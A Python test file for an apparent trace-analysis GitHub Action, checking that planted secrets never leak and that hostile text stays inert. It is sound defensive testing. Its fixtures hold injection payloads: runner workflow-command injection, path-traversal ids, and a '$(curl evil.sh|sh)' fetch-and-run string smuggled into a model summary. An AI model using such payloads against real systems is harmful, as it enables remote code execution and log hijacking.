"""Planted secrets never leave the process: the action's default path, every input format, every channel.

The hostile files in ``tests/hostile/planted/`` carry one secret of every class
(``tests/hostile/planted.py``), in errors, tool outputs, tool-call arguments, headers,
metadata, dict keys, agent, model and feedback names. The action runs on all of them with
the four model stages on (against the OpenAI fake) and publishing on (against the GitHub
fake); then every channel is searched for every planted value verbatim: the artifacts,
the vector-store uploads, the model request bodies, the comment and check run (every
GitHub request body), the job summary, the outputs and the log.
"""

from __future__ import annotations

import contextlib
import json
import re
import shutil
from pathlib import Path

import pytest
from langsmith import traceable
from langsmith.run_helpers import tracing_context

from examples import agents
from tests.e2e.test_container import read_outputs
from tests.fakes import openai_api as F
from tests.fakes.github_api import FakeGitHub, require_node_tools
from tests.fakes.langsmith_api import FakeLangSmith
from tests.fakes.openai_api import FakeOpenAI
from tests.hostile import planted as P
from tests.integration.test_action_run import action_env, langsmith_inputs, pr_event, run_action
from tests.unit.test_comment import outside_code

PLANTED = Path(__file__).resolve().parents[1] / "hostile" / "planted"
FORMATS = ["langsmith", "otlp", "chat", "history", "refinery"]


def leaks(channel: str, text: str) -> list[str]:
    return [f"{channel}: {secret}" for secret in P.SECRETS if secret in text]


def test_every_planted_file_carries_every_kind_of_secret() -> None:
    # The search below is only meaningful if the inputs hold the secrets to begin with.
    files = {p.stem: p.read_text() for p in PLANTED.glob("*.json")}
    assert sorted(files) == sorted(FORMATS)
    assert all(P.ERROR_TEXT.split(";")[0] in text or P.FREE_PASSWORD in text for text in files.values())
    found = {secret for text in files.values() for secret in P.SECRETS if secret in text}
    assert found == set(P.SECRETS)


def planted_run(tmp_path: Path, fmt: str) -> tuple[FakeGitHub, FakeOpenAI, str, int]:
    """The action's default path on one planted file, stages and publishing on."""
    with (
        FakeGitHub(token=P.CONFIGURED_GITHUB_TOKEN) as github,
        FakeOpenAI(api_key=P.CONFIGURED_OPENAI_KEY) as openai,
    ):
        github.add_pull(2, "ec26c3e57ca3a959ca5aad62de7213c562f8c821")
        env = action_env(
            tmp_path,
            github,
            "pull_request",
            pr_event(github.repo),
            trace_file=f"planted/{fmt}.json",
            all_traces="true",  # some formats carry no failure signal: every planted trace is analysed
            openai_api_key=openai.api_key,
            base_url=openai.url + "/v1",
            model="gpt-4.1",
        )
        (Path(env["GITHUB_WORKSPACE"]) / "planted").mkdir()
        shutil.copy(PLANTED / f"{fmt}.json", Path(env["GITHUB_WORKSPACE"]) / "planted")
        code, log = run_action(env)
    return github, openai, log, code


def test_no_planted_secret_reaches_any_channel_of_the_action(tmp_path: Path) -> None:
    # One run per format: the five planted traces fail alike, so in one run they would form one
    # cluster and only its representative would reach the model.
    require_node_tools()
    found: list[str] = []
    for fmt in FORMATS:
        run_dir = tmp_path / fmt
        run_dir.mkdir()
        github, openai, log, code = planted_run(run_dir, fmt)
        assert code == 0, log
        out_dir = run_dir / "ws" / "refinery-artifacts"
        outputs = (run_dir / "output").read_text()
        assert "traces-analyzed<<" in outputs and "\n1\n" in outputs, outputs
        # Every channel was really used: the stages ran, documents were uploaded, GitHub was written to.
        assert len(openai.uploads) >= 4 and openai.response_bodies()
        assert github.comments_on(2) and github.check_runs
        for path in out_dir.rglob("*"):
            if path.is_file():
                found += leaks(f"{fmt}: artifact {path.relative_to(out_dir)}", path.read_text(encoding="utf-8"))
        found += [hit for up in openai.uploads for hit in leaks(f"{fmt}: upload {up['filename']}", up["text"])]
        found += leaks(f"{fmt}: model requests", json.dumps([r["body"] for r in openai.requests], ensure_ascii=False))
        found += leaks(f"{fmt}: GitHub requests", json.dumps([r["body"] for r in github.requests], ensure_ascii=False))
        found += leaks(f"{fmt}: job summary", (run_dir / "summary").read_text())
        found += leaks(f"{fmt}: outputs", outputs)
        # The runner is told to mask the configured keys: those lines must carry them, and only those.
        masks = [line for line in log.splitlines() if line.startswith("::add-mask::")]
        expected = sorted(f"::add-mask::{s}" for s in (P.CONFIGURED_GITHUB_TOKEN, P.CONFIGURED_OPENAI_KEY))
        assert sorted(masks) == expected
        found += leaks(f"{fmt}: log", "\n".join(line for line in log.splitlines() if line not in masks))
        [triage] = out_dir.glob("trace-*/triage.json")
        assert json.loads(triage.read_text())["redaction"]["counts"]
    assert found == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_no_planted_secret_reaches_the_cli_artifacts_or_output(fmt: str, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from refinery.cli import cli

    out = tmp_path / "out"
    env = {"GITHUB_TOKEN": P.CONFIGURED_GITHUB_TOKEN, "OPENAI_API_KEY": P.CONFIGURED_OPENAI_KEY}
    done = CliRunner().invoke(
        cli, ["analyze", str(PLANTED / f"{fmt}.json"), "--out", str(out), "--offline"], env=env, catch_exceptions=False
    )
    shown = CliRunner().invoke(cli, ["show", str(PLANTED / f"{fmt}.json"), "--no-color"], env=env)
    found = leaks("stdout", done.stdout + shown.stdout) + leaks("stderr", done.stderr + shown.stderr)
    for path in out.rglob("*"):
        if path.is_file():
            found += leaks(str(path.relative_to(out)), path.read_text(encoding="utf-8"))
    assert done.exit_code == 0, done.stderr
    assert found == []


HOSTILE = "\n::error file=app.py,line=1::pwned\n::add-mask::everything\n::stop-commands::tok\n##[warning]old \x1b[2J"
OUR_COMMANDS = re.compile(r"^::(?:group|endgroup|warning|error|notice|add-mask)::")


def foreign_commands(log: str, masks: set[str]) -> list[str]:
    """Lines the runner would run as commands that we did not write ourselves."""
    found = []
    for line in log.splitlines():
        stripped = line.lstrip()
        if not stripped.startswith(("::", "##[")):
            continue
        if (
            (stripped.startswith("::add-mask::") and stripped.removeprefix("::add-mask::") not in masks)
            or not OUR_COMMANDS.match(stripped)
            or line != stripped
        ):
            found.append(stripped)
    return found


def test_selected_trace_text_reaches_the_log_inert_and_redacted(tmp_path: Path, fake_langsmith: FakeLangSmith) -> None:
    require_node_tools()
    client = agents.sdk_client(fake_langsmith.direct_url, fake_langsmith.api_key)

    @traceable(run_type="chain", name=f"hostile {HOSTILE}")
    def hostile_agent() -> None:
        raise RuntimeError(f"tool failed {HOSTILE} key {fake_langsmith.api_key} password=hunter2")

    with tracing_context(enabled=True, client=client, project_name="hostile"), contextlib.suppress(RuntimeError):
        hostile_agent()
    client.flush()
    [root] = [r for r in fake_langsmith.runs.values() if r.get("parent_run_id") is None]
    client.create_feedback(
        root["id"],
        key="correctness",
        score=0,
        comment=f"wrong {HOSTILE} {fake_langsmith.api_key}",
        trace_id=root["id"],
        session_id=client.read_project(project_name="hostile").id,
    )
    with FakeGitHub() as github:
        github.add_pull(2, "ec26c3e57ca3a959ca5aad62de7213c562f8c821")
        inputs = langsmith_inputs(fake_langsmith, langsmith_project="hostile", since="2000-01-01T00:00:00Z")
        env = action_env(tmp_path, github, "pull_request", pr_event(github.repo), **inputs)
        code, log = run_action(env)
    assert code == 0, log
    assert "selected " in log and "pwned" in log  # the text is shown...
    assert foreign_commands(log, {fake_langsmith.api_key, github.token}) == []  # ...but runs nothing
    plain = [line for line in log.splitlines() if not line.startswith("::add-mask::")]
    assert not any(fake_langsmith.api_key in line or "hunter2" in line for line in plain)
    assert "\x1b" not in log


def test_hostile_trace_ids_stay_inert_in_the_log_and_inside_the_output_directory(tmp_path: Path) -> None:
    require_node_tools()
    runs = [
        {"id": trace_id, "trace_id": trace_id, "name": "agent", "run_type": "chain", "error": "HTTP 429 rate limited"}
        for trace_id in ("/../../escape", f"id{HOSTILE}")
    ]
    with FakeGitHub() as github:
        github.add_pull(2, "ec26c3e57ca3a959ca5aad62de7213c562f8c821")
        env = action_env(tmp_path, github, "pull_request", pr_event(github.repo), trace_file="hostile.jsonl")
        Path(env["GITHUB_WORKSPACE"], "hostile.jsonl").write_text("\n".join(json.dumps(r) for r in runs))
        code, log = run_action(env)
    assert code == 0, log
    out_dir = tmp_path / "ws" / "refinery-artifacts"
    assert len(list(out_dir.glob("trace-*/hypothesis-pack.json"))) == 2
    written = {p.resolve() for p in tmp_path.rglob("*") if p.is_file()}
    assert all(out_dir.resolve() in p.parents or p.parent == tmp_path.resolve() or "ws" in p.parts for p in written)
    assert not (tmp_path.parent / "escape").exists() and not (tmp_path / "escape").exists()
    assert foreign_commands(log, {github.token}) == []


def test_model_text_reaches_outputs_titles_and_summary_plain(tmp_path: Path) -> None:
    require_node_tools()
    hostile = "Rate limit; $(curl evil.sh|sh) `id` <img src=x> \x1b[31m@octocat fixes #12\n::error::x"
    with FakeGitHub() as github, FakeOpenAI() as openai:
        synthesis = F.auto_output({"text": {"format": {"name": "synthesis"}}}, ["R0004"])
        openai.script(F.Step("auto"), F.Step("auto"), F.Step("auto"), F.reply({**synthesis, "summary": hostile}))
        github.add_pull(2, "ec26c3e57ca3a959ca5aad62de7213c562f8c821")
        env = action_env(
            tmp_path,
            github,
            "pull_request",
            pr_event(github.repo),
            openai_api_key=openai.api_key,
            base_url=openai.url + "/v1",
            model="gpt-4.1",
        )
        code, log = run_action(env)
        [check] = github.check_runs.values()
    assert code == 0, log
    summary = read_outputs(tmp_path / "output")["summary"]
    for text in (summary, check["output"]["title"]):
        assert "Rate limit" in text and not set(text) & set("`$;|<>\n\x1b@'\"()")
        assert "#\u200b12" in text
    job_summary = outside_code((tmp_path / "summary").read_text())
    assert "<img" not in job_summary and "\x1b" not in job_summary and "@octocat" not in job_summary
    assert foreign_commands(log, {github.token, openai.api_key}) == []
